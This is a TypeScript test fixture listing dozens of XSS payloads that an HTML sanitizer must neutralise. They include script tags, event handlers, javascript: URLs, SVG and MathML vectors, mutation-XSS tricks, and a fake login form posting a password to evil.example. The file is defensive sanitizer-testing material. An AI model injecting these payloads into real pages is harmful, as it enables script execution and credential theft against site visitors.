// Hostile markup placed inside otherwise normal article pages. Written for these tests from the
// kinds of payload every HTML sanitizer must withstand; none of it may come out active.

export const BODY_VECTORS: readonly string[] = [
  // <script> in its forms
  '<script>window.__xss = 1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script type="module">window.__xss = 1</script>',
  '<scr<script>ipt>window.__xss = 1</scr</script>ipt>',
  '<script>/*</script><p>ok</p><script>*/window.__xss = 1</script>',
  '<p>text<script\n>window.__xss = 1</script\n></p>',
  // inline event handlers
  '<img src="x.png" onerror="window.__xss = 1">',
  '<p onclick="window.__xss = 1">Click me</p>',
  '<body onload="window.__xss = 1">',
  '<div onmouseover="window.__xss = 1" style="width:100%">hover</div>',
  '<video src="x.mp4" onloadstart="window.__xss = 1"></video>',
  '<details open ontoggle="window.__xss = 1"><summary>s</summary>d</details>',
  '<a href="#" onfocus="window.__xss = 1" autofocus>focus</a>',
  '<input autofocus onfocus="window.__xss = 1">',
  '<marquee onstart="window.__xss = 1">m</marquee>',
  '<img src=x.png ONERROR=window.__xss=1>',
  // dangerous URLs in links, images, forms, srcset
  '<a href="javascript:window.__xss = 1">js link</a>',
  '<a href="  JaVaScRiPt:window.__xss = 1">spaced</a>',
  '<a href="java&#x09;script:window.__xss = 1">tab entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">entities</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<img src="javascript:window.__xss = 1">',
  '<img srcset="javascript:window.__xss=1 1x, x.png 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:window.__xss = 1"><button>go</button></form>',
  '<form><button formaction="javascript:window.__xss = 1">go</button></form>',
  '<iframe src="javascript:window.__xss = 1"></iframe>',
  '<area href="javascript:window.__xss = 1">',
  '<a href="jav\u0000ascript:window.__xss = 1">null byte</a>',
  // SVG and MathML
  '<svg onload="window.__xss = 1"><circle r="5"/></svg>',
  '<svg><script>window.__xss = 1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss = 1"><text y="20">svg link</text></a></svg>',
  '<svg><animate onbegin="window.__xss = 1" attributeName="x" dur="1s"/></svg>',
  '<svg><foreignObject><img src=x onerror="window.__xss = 1"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1"></style></mglyph></table></mtext></math>',
  '<math href="javascript:window.__xss = 1">math</math>',
  // embedded documents
  '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
  '<frameset><frame src="javascript:window.__xss = 1"></frameset>',
  // page-level takeovers
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 1">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>',
  // CSS
  '<p style="background:url(javascript:window.__xss=1)">css url</p>',
  '<p style="width: expression(window.__xss = 1)">css expression</p>',
  '<style>body{background:url("https://evil.example/track.png")}</style>',
  '<div style="position:fixed;inset:0;z-index:99999">overlay</div>',
  // DOM clobbering
  '<img name="__proto__"><img id="document">',
  '<form id="location"><input name="href"></form>',
  '<a id="defaultView" href="https://evil.example/">clobber</a>',
  '<img name="getElementById"><img name="cookie">',
  // mutation XSS through re-parsing
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<template><img src=x onerror="window.__xss = 1"></template>',
  '<style><img src=x onerror="window.__xss = 1"></style>',
  '<textarea><img src=x onerror="window.__xss = 1"></textarea>',
  '<select><option><img src=x onerror="window.__xss = 1"></option></select>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__xss=1 src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<xmp><img src=x onerror="window.__xss = 1"></xmp>',
  '<title><img src=x onerror="window.__xss = 1"></title>',
  '<!--><img src=x onerror="window.__xss = 1">-->',
  '<a href="https://ok.example/" target="_top">framebust</a>',
];

/** Payloads in the fields we show as text: title, byline, site name, description. */
export const METADATA_VECTORS: readonly string[] = [
  '<img src=x onerror="window.__xss = 1">',
  '"><script>window.__xss = 1</script>',
  "'-window.__xss=1-'",
  '<svg/onload=window.__xss=1>',
];
